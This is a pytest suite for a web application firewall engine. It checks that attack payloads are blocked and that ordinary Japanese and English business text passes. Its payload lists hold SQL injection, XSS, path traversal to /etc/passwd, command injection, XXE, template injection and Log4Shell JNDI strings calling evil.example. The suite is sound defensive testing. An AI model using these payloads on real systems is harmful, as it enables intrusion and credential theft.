"""Each family's rules: the attack shapes block, look-alike business text does not."""

from __future__ import annotations

import pytest

from hokan.edge.waf.engine import Inspector, verdict
from hokan.edge.waf.normalise import is_plain, views

PL1 = Inspector(1)


def score(
    value: str, inspector: Inspector = PL1, url_encoded: bool = False
) -> tuple[int, list[str]]:
    result = verdict(inspector.inspect("query.q", value, url_encoded=url_encoded), 5)
    return result.score, result.rules


def blocks(value: str, **kw: bool) -> bool:
    return score(value, **kw)[0] >= 5  # type: ignore[arg-type]


ATTACKS = {
    "sqli": [
        "' or 1=1--",
        "1' OR '1'='1",
        "admin'--",
        "1 UNION SELECT username, password FROM users",
        "1 AND SLEEP(5)",
        "'; DROP TABLE staff; --",
        "1/*!50000UNION*/SELECT 1",
        "1 AND 1=1",
        "x' AND extractvalue(1,concat(0x7e,version()))--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)',
        "javascript:alert(document.cookie)",
        "<svg/onload=alert(1)>",
        "＜ｓｃｒｉｐｔ＞alert(1)＜/ｓｃｒｉｐｔ＞",
        "';alert(1);//",
    ],
    "lfi": [
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "php://filter/resource=x",
        "/proc/self/environ",
    ],
    "rfi": ["http://evil.example/shell.txt?", "http://10.0.0.1/x.php", "gopher://127.0.0.1:25/"],
    "cmdi": [
        "; cat /etc/passwd",
        "| id",
        "$(whoami)",
        "`uname -a`",
        "; ping -c 3 10.0.0.1",
        "a;cat${IFS}/etc/passwd",
    ],
    "php": ["<?php system('id'); ?>", "eval($_GET['x'])", 'O:8:"stdClass":0:{}'],
    "java": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    ],
    "ssti": ["{{7*7}}", "${7*7}", "{{''.__class__.__mro__}}", "{{config.items()}}", "<%= 7*7 %>"],
    "xml": [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "<xi:include href='/etc/passwd'/>",
    ],
}
BENIGN = [
    "select the best option from the list",
    "O'Reilly",
    "1=1 の確認",
    "<注意>",
    "rm 室",
    "Pets: dog; cat",
    "Tom & Jerry",
    "東京都千代田区丸の内1丁目2番3号 ABCビル4F",
    "「至急」対応をお願いします・担当：佐藤（営業部）ー－",
    "It's 1 or 2 days",
    "JavaScript: The Good Parts",
    "{{customer_name}}様",
    "https://example.com/index.php?id=123&lang=ja",
    "\\\\fileserver\\share\\営業部\\見積書.xlsx",
    "taro.yamada+work@example.co.jp",
    "50% off",
    "a < b かつ b > c",
    "Execute the plan on Monday; declare victory on Friday.",
]


@pytest.mark.parametrize(("family", "payload"), [(f, p) for f, ps in ATTACKS.items() for p in ps])
def test_attack_blocks_with_a_rule_of_its_family(family: str, payload: str) -> None:
    total, rules = score(payload)
    assert total >= 5, (payload, rules)
    assert any(r.startswith(family + "-") for r in rules), rules


@pytest.mark.parametrize("text", BENIGN)
def test_business_text_passes(text: str) -> None:
    assert score(text) == (0, []) or score(text)[0] < 5


def test_encodings_are_undone_before_the_rules() -> None:
    for encoded in (
        "%27%20or%201%3D1--",
        "%2527%2520or%25201%253D1--",
        "&#39; or 1=1--",
        "＇ ｏｒ １＝１－－",
    ):
        assert blocks(encoded, url_encoded=True), encoded


def test_protocol_anomalies_in_values() -> None:
    assert "protocol-null-byte" in score("file.pdf%00.php", url_encoded=True)[1]
    assert "protocol-bad-percent-encoding" in score("100%zz", url_encoded=True)[1]
    assert "protocol-bad-utf8" in score("%ff%fe", url_encoded=True)[1]
    # Literal text that merely looks encoded once decoded is not a protocol error.
    assert score("%25A0", url_encoded=True)[0] < 5


def test_paranoia_raises_strictness() -> None:
    strict = Inspector(4)
    assert not blocks("<b>太字</b>")
    assert score("<b>太字</b>", strict)[0] >= 5
    assert score("x' or", strict)[0] >= 5


def test_plain_values_skip_the_rules() -> None:
    assert is_plain("山田 太郎 営業部 03-1234-5678")
    assert not is_plain("1 union select 2")
    assert not is_plain("<b>")
    assert views("＜ｂ＞").decoded == "<b>"


def test_header_injection_and_nosql_operators() -> None:
    assert "protocol-crlf-injection" in score("%0d%0aSet-Cookie:%20sid=x", url_encoded=True)[1]
    assert score("担当:佐藤\n場所: 東京")[0] == 0  # line breaks in notes are text
    assert blocks("$ne") and blocks("user[$where]", url_encoded=True)
    assert not blocks("$schema") and not blocks("$ref")


def test_rich_text_html_passes_but_frames_with_script_do_not() -> None:
    assert not blocks('<p>ご案内</p><img src="https://cdn.example.jp/a.png" alt="">')
    assert not blocks('<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>')
    assert not blocks('<svg viewBox="0 0 24 24"><path d="M1 1z"/></svg>')
    assert blocks('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">')
    assert blocks('"><svg onload=alert(1)>')


def test_ordinary_links_skip_the_rules_but_suspicious_ones_do_not() -> None:
    assert PL1.inspect("json.url", "https://www.example.co.jp/company/about.html") == []
    for url in (
        "http://evil.example/shell.txt",
        "http://10.0.0.1/x.php",
        "https://x.jp/a?",
        "https://x.jp/../../etc/passwd",
    ):
        assert blocks(url), url
